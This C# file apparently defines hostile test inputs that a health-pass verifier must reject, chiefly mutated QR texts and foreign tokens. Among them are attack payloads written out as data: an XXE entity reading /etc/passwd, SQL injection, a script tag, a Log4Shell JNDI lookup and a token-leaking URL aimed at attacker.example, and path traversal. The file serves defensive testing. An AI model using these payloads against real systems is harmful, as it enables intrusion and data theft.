using HealthBao.Contracts.Jose;
using HealthBao.Contracts.Pass;
using HealthBao.Contracts.Revocation;
using HealthBao.Contracts.Tests.Pass;
using HealthBao.Contracts.Trust;

namespace HealthBao.Hostile;

/// <summary>Step 2: other documents and codes held up for a pass, and QR texts that are none.</summary>
internal static class HostileTexts
{
    private static readonly string Qr = ShcText.Encode(HostileToken.GoodCard);

    public static IEnumerable<HostileFamily> All() =>
    [
        HostileFamily.Of("document of ours", PassRejection.Malformed, [HostileToken.Good], Ours()),
        HostileFamily.Of("QR text", PassRejection.Malformed, [Qr], Qrs()),
        HostileFamily.Of("text", PassRejection.Malformed, [HostileToken.Good, HostileToken.GoodCard], Others()),
    ];

    private static IEnumerable<(string, string)> Ours()
    {
        using var key = MadeUpKeys.Of(HostileToken.KeyName);
        var (demo, claims) = (HostileRegion.Demo, System.Text.Encoding.UTF8.GetBytes(HostileToken.Claims));
        var list = new HeldStatusList(demo.Issuer, HostileWorld.Today, new(new byte[16]), HostileWorld.Now, TimeSpan.FromMinutes(1));
        var trust = new TrustList("https://hub.healthbao.example", HostileWorld.Now, HostileWorld.Now.AddDays(1), 1, []);
        return
        [
            ("a status list of the day's key", StatusListToken.Sign(list, key)), ("a trust list", TrustListToken.Sign(trust, key)), ("a call of the hub", HubCall.Sign("https://hub.healthbao.example", demo.Issuer, "POST /v1/passes", "{}"u8, key, HostileWorld.Now)),
            ("a key statement", KeyStatement.Sign(demo.Issuer, demo.Code, [(HostileWorld.Today, key)], key, HostileWorld.Now)),
            .. new[] { "status-answer+jwt", "concept-map+jwt", "participant-request+jwt", "statuslist+jwt", "at+jwt", "JWT" }.Select(type => ($"sound claims as {type}", SignedToken.Sign(type, key, claims))),
        ];
    }

    private static IEnumerable<(string, string)> Qrs() =>
    [
        ("an odd number of digits", Qr + "1"), ("a digit missing", Qr[..^1]), ("no digits", "shc:/"), ("one digit", "shc:/5"), ("in capitals", "SHC:/" + Qr[5..]), ("a capital letter", "Shc:/" + Qr[5..]), ("no solidus", "shc:" + Qr[5..]), ("two solidi", "shc://" + Qr[5..]), ("the first of two chunks", "shc:/1/2/" + Qr[5..]),
        ("a chunk of one", "shc:/1/1/" + Qr[5..]), ("a space after it", Qr + " "), ("a space before it", " " + Qr), ("a line feed after it", Qr + "\n"), ("a space between digits", Qr.Insert(9, " ")), ("a letter among digits", Qr[..9] + "A" + Qr[10..]), ("a full-width digit", Qr[..9] + "５" + Qr[10..]), ("an Arabic digit", Qr[..9] + "٥" + Qr[10..]),
        ("a pair beyond the alphabet", Qr[..^2] + "99"), ("a pair for a slash", Qr[..^2] + "02"), ("a pair for a tilde", Qr[..^2] + "81"), ("a full stop more", Qr + "01"), ("the token itself after the prefix", "shc:/" + HostileToken.GoodCard), ("the digits alone", Qr[5..]), ("itself twice", Qr + Qr), ("a fragment", Qr + "#"), ("a query", Qr + "?x=1"),
        ("an API token in digits, cut", ShcText.Encode(HostileToken.Good)[..^2]), ("another card's header only", "shc:/" + Qr[5..100]), ("an shc link", "shlink:/eyJ1cmwiOiJodHRwczovL2F0dGFja2VyLmV4YW1wbGUifQ"), ("digits pair by pair the other way round", "shc:/" + new string([.. Qr[5..].Reverse()])), ("minus signs", "shc:/" + Qr[5..].Replace('1', '-')),
    ];

    private static IEnumerable<(string, string)> Others()
    {
        var good = HostileToken.Good;
        var parts = good.Split('.');
        return
        [
            ("a payment code", "281234567890123456"), ("another payment code", "https://qr.pay.example/wx0a1b2c3d"), ("a web address", "https://attacker.example/?pass=" + good), ("a phone number", "tel:+8610123456"), ("a boarding pass", "M1ZHANG/SAN            EABC123 PEKTSNCA 1501 060Y012A0001 100"), ("a Wi-Fi code", "WIFI:T:WPA;S=x;P=y;;"),
            ("an EU certificate", "HC1:NCFOXN%TS3DHPVO13J /G-/2YRVA.Q/R82JD2FCJG96V75DOW%IY17EIHY P8L6IWM$S4U45P84HW6U/4:84LC6 YM::QQHIZC4.OI1RM8ZA.A5:S9MKN4NN3F85QNCY0O%0VZ001HOC9JU0D0HT0HB2PL/IB*09B9LW4T*8+DCMH0LDK2%K:XFE70*LP$V25$0Q:J:4MO1P0%0L0HD+9E/HY+4J6TH48S%4K.GJ2PT3QY:GQ3TE2I+-CPHN6D7LLK*2HG%89UV-0LZ 2ZJJ"),
            ("an ICAO visible seal", "{\"data\":{\"hdr\":{\"t\":\"icao.vacc\",\"v\":1}},\"sig\":{}}"), ("JSON serialisation", $$"""{"payload":"{{parts[1]}}","protected":"{{parts[0]}}","signature":"{{parts[2]}}"}"""), ("general JSON serialisation", $$"""{"payload":"{{parts[1]}}","signatures":[{"protected":"{{parts[0]}}","signature":"{{parts[2]}}"}]}"""),
            ("the claims alone", HostileToken.Claims), ("base64url of the whole token", HostileToken.Text(good)), ("percent-encoded", good.Replace(".", "%2E", StringComparison.Ordinal)), ("in capitals", good.ToUpperInvariant()), ("in quotation marks", $"\"{good}\""), ("with its scheme", "Bearer " + good), ("as a form's field", "pass=" + good),
            ("a line feed before it", "\n" + good), ("a byte order mark before it", "\uFEFF" + good), ("a right-to-left override before it", "\u202E" + good), ("folded at 64 characters", string.Join('\n', good.Chunk(64).Select(c => new string(c)))), ("with spaces for full stops", good.Replace('.', ' ')), ("backwards", new string([.. good.Reverse()])),
            ("a PEM", "-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----"), ("COSE in base64url", "0oRDoQEmoFNIZWFsdGg"), ("XML", "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY a SYSTEM \"file:///etc/passwd\">]><x>&a;</x>"), ("a query in SQL", "' OR 1=1 --"), ("a script", "<script>alert(1)</script>"), ("a log line", "\r\n2026-03-01 INFO verified pass"), ("a lookup", "${jndi:ldap://attacker.example/a}"), ("format places", "{0}{1}%s%n"), ("emoji", "🟢🟢🟢"), ("a space", " "), ("zeros", "0"), ("a path", "../../../../etc/passwd"), ("a PASETO", "v4.public.eyJkYXRhIjoidGhpcyBpcyBhIHNpZ25lZCBtZXNzYWdlIn0bpAjyN"), ("a macaroon", "MDAxY2xvY2F0aW9uIGh0dHA6Ly9teWJhbms"),
        ];
    }
}
